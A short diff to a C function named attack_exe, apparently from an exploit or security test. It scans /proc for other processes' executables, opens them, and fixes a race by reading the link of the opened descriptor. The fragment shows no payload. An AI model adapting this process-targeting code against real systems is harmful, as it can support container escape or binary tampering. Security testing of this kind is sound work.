@@ -57,10 +57,12 @@ static void attack_exe(void)
 			if (pid <= 1 || pid == getpid())
 				continue;
 			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
-			n = readlink(path, link, sizeof(link) - 1);
 			fd = open(path, O_RDONLY | O_CLOEXEC);
 			if (fd < 0)
 				continue;
+			/* what was opened, not what the process runs by now */
+			snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
+			n = readlink(path, link, sizeof(link) - 1);
 			link[n > 0 ? n : 0] = '\0';
 			if (!strstr(link, "busybox") && !strstr(link, "helper")) {
 				if (opened++ == 0) {
